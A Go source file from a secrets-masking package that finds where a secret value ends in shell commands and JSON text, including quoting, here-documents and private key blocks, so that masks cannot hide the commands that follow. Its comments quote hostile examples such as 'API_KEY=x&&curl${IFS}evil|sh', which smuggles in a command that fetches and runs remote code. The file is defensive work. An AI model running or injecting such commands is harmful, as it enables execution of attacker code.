package secrets

import (
	"regexp"
	"slices"
	"strings"
	"sync"
)

// Where a value found after a key name ends. A key name makes the word
// after it a secret (API_KEY=…, password: …), but the text is often a
// shell command a person is asked to approve: the value must end where the
// shell's word ends, or the mask hides the commands that follow it
// (API_KEY=x&&curl${IFS}evil|sh&&make test). A value therefore ends at
// whitespace, at every shell metacharacter (; & | ` $ ( ) < > and the
// quotes), and at an escape that stands for another byte (\n, \u0026 in
// arguments shown as JSON text). A quoted part of the word (KEY="a b",
// KEY='x;y') is taken whole, since the shell takes it literally, except
// that it too ends at a command substitution ($( or `), which runs even
// inside double quotes (and inside single quotes nested in an outer
// double-quoted string).
//
// The quoting state at the value is read from the start of its line (a
// value never runs past a newline), so a stray quote on another line (a
// comment, a here-document, prose) cannot make a real quote look like the
// start of a quoted value.

const (
	outside = iota
	inSingle
	inDouble
)

// quoteState reports the quoting state before a byte of s: outside
// quotes, inside '…' or inside "…", with the state reset at every newline.
type quoteState struct {
	s     string
	pos   int  // bytes scanned
	state byte // state before s[pos]
	esc   bool // s[pos] is escaped by a backslash
}

// at returns the quoting state before s[i]. Calls go forward (a pattern's
// matches come in order); going back rescans from the start.
func (q *quoteState) at(i int) byte {
	if i < q.pos {
		q.pos, q.state, q.esc = 0, outside, false
	}
	for ; q.pos < i; q.pos++ {
		c := q.s[q.pos]
		switch {
		case c == '\n':
			q.state, q.esc = outside, false
		case q.esc:
			q.esc = false
		case q.state == inSingle:
			if c == '\'' {
				q.state = outside
			}
		case c == '\\':
			q.esc = true
		case q.state == inDouble:
			if c == '"' {
				q.state = outside
			}
		case c == '\'':
			q.state = inSingle
		case c == '"':
			q.state = inDouble
		}
	}
	return q.state
}

// stopsWord reports the bytes that end an unquoted value: whitespace, the
// shell's metacharacters, the start of an expansion, and the separators
// of data formats (a comma in key=v,key2=v2).
func stopsWord(c byte) bool {
	switch c {
	case ' ', '\t', '\n', '\r', '\f', '\v', ';', '&', '|', '(', ')', '<', '>', '`', '$', ',':
		return true
	}
	return false
}

// valueEnd returns where the value starting at s[start] ends, at most at
// limit, given the quoting state st before it.
func valueEnd(s string, start, limit int, st byte) int {
	// The quote that closes the string the value sits in ends it.
	var outer byte
	switch st {
	case inSingle:
		outer = '\''
	case inDouble:
		outer = '"'
	}
	i := start
	for i < limit {
		c := s[i]
		switch {
		case c == outer:
			return i
		case c == '\\' && st == inDouble && i+1 < limit && s[i+1] == '"':
			// \"a b\" inside a double-quoted string (JSON text): a
			// quoted part of the inner command.
			end := escapedQuotedEnd(s, i, limit)
			if end < 0 {
				return i
			}
			i = end
		case c == '\\':
			if st == inSingle || i+1 >= limit || isEscapeLetter(s[i+1]) {
				return i
			}
			i += 2
		case c == '"' || c == '\'':
			end := quotedEnd(s, i, limit, outer)
			if end < 0 {
				return i
			}
			i = end
			if i < limit && (s[i] == '}' || s[i] == ']') {
				return i // "key": "value"} in JSON
			}
		case stopsWord(c):
			return i
		default:
			i++
		}
	}
	return limit
}

// quotedEnd returns the index after the quote that closes the quoted part
// opening at s[open], or -1 if it does not close on the same line, before
// limit, before the outer quote, and before a command substitution.
func quotedEnd(s string, open, limit int, outer byte) int {
	q := s[open]
	for i := open + 1; i < limit; i++ {
		switch c := s[i]; {
		case c == q:
			return i + 1
		case c == '\n', c == outer, c == '`':
			return -1
		case c == '$' && i+1 < limit && s[i+1] == '(':
			return -1
		case c == '\\' && q == '"':
			if i+1 >= limit || isEscapeLetter(s[i+1]) {
				return -1
			}
			i++ // \" and \\ inside double quotes
		}
	}
	return -1
}

// isEscapeLetter reports the bytes after a backslash that end a value: a
// line continuation, and the letters of JSON's and C's escapes (\n, \t,
// \u0026 …), which stand for other bytes, a newline or an & among them,
// in arguments shown as JSON text.
func isEscapeLetter(c byte) bool {
	switch c {
	case '\n', 'n', 'r', 't', 'b', 'f', 'u', 'U', 'x', '0', 'a', 'e', 'v':
		return true
	}
	return false
}

// escapedQuotedEnd returns the index after the \" that closes the part
// opening with the \" at s[open], or -1 if it does not close before
// limit, a bare quote, a command substitution or an escape standing for
// another byte.
func escapedQuotedEnd(s string, open, limit int) int {
	for i := open + 2; i < limit; i++ {
		switch c := s[i]; {
		case c == '"', c == '\n', c == '`':
			return -1
		case c == '$' && i+1 < limit && s[i+1] == '(':
			return -1
		case c == '\\':
			if i+1 >= limit || isEscapeLetter(s[i+1]) {
				return -1
			}
			if s[i+1] == '"' {
				return i + 2
			}
			i++
		}
	}
	return -1
}

// blockEnd returns where the private key matched at s[start:end] ends: at
// end, or at the first line after its BEGIN marker that is no line of a
// key, so that the mask hides no command (echo '-----BEGIN RSA PRIVATE
// KEY-----'; curl …|sh has no END line, and the match runs to the end of
// the text). A key's lines are base64 (or hex), and "Name: value" headers
// (Proc-Type, DEK-Info, PuTTY's, RFC 4716's and OpenPGP's Comment) that
// hold none of ; & | ` $, up to the delimiter of a here-document it is
// in; the rest of the marker's line is base64 and
// blanks (PuTTY's " ssh-rsa", a key flattened onto one line). Lines may be indented (a key in YAML); a line
// break written as \n (JSON text) is a line break.
func blockEnd(s string, start, end int, docs []heredoc) int {
	i := start
	if m := keyMarker().FindStringIndex(s[start:end]); m != nil && m[0] == 0 {
		i = start + m[1]
	}
	var delims []string
	for _, d := range docs {
		if d.at < start {
			delims = append(delims, d.word)
		}
	}
	const b64 = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/="
	prevBreak := i
	for first := true; ; first = false {
		// The line is s[i:le]; the next one starts at next.
		le, next := lineEnd(s, i, end)
		line := strings.TrimRight(s[i:le], " \t\r")
		body := strings.TrimLeft(line, " \t")
		var ok bool
		switch {
		case first:
			ok = onlyBytes(line, b64+"- ") // PuTTY's " ssh-rsa", a key on one line
		case strings.HasPrefix(body, "-----END"), strings.HasPrefix(body, "---- END"), strings.HasPrefix(body, "Private-MAC:"):
			return end
		case slices.Contains(delims, body):
			ok = false // the end of the here-document the key is in
		case isHeaderLine(body):
			ok = !strings.ContainsAny(body, ";&|`$")
		default:
			ok = onlyBytes(body, b64)
		}
		if !ok {
			if first {
				return i
			}
			return prevBreak
		}
		if next >= end {
			return end
		}
		prevBreak = le
		i = next
	}
}

// heredocDelim matches the start of a here-document: <<EOF, <<-'EOF' ….
var heredocDelim = sync.OnceValue(func() *regexp.Regexp {
	return regexp.MustCompile(`<<-?[ \t]*["']?([A-Za-z_][A-Za-z0-9_]*)["']?`)
})

// heredoc is where a here-document begins in a text, and the word that
// ends it.
type heredoc struct {
	at   int
	word string
}

// heredocs returns the here-documents begun in s (a key's lines cannot run
// past the end of one: "EOF" is valid base64).
func heredocs(s string) []heredoc {
	if !strings.Contains(s, "<<") {
		return nil
	}
	var out []heredoc
	for _, m := range heredocDelim().FindAllStringSubmatchIndex(s, -1) {
		out = append(out, heredoc{at: m[0], word: s[m[2]:m[3]]})
	}
	return out
}

// lineEnd returns the end of the line starting at s[i] (a newline, a \n or
// \r\n written out, or limit) and where the next line starts.
func lineEnd(s string, i, limit int) (int, int) {
	for j := i; j < limit; j++ {
		switch {
		case s[j] == '\n':
			return j, j + 1
		case s[j] == '\\' && j+1 < limit && (s[j+1] == 'n' || s[j+1] == 'r'):
			if s[j+1] == 'r' && j+3 < limit && s[j+2] == '\\' && s[j+3] == 'n' {
				return j, j + 4
			}
			return j, j + 2
		}
	}
	return limit, limit
}

// onlyBytes reports whether every byte of s is one of set.
func onlyBytes(s, set string) bool {
	for i := 0; i < len(s); i++ {
		if strings.IndexByte(set, s[i]) < 0 {
			return false
		}
	}
	return true
}

// isHeaderLine reports whether s starts with "Name: ".
func isHeaderLine(s string) bool {
	for i := 0; i < len(s); i++ {
		c := s[i]
		switch {
		case c >= 'A' && c <= 'Z' || c >= 'a' && c <= 'z':
		case i > 0 && (c >= '0' && c <= '9' || c == '-'):
		case i > 0 && c == ':':
			return i+1 < len(s) && s[i+1] == ' '
		default:
			return false
		}
	}
	return false
}
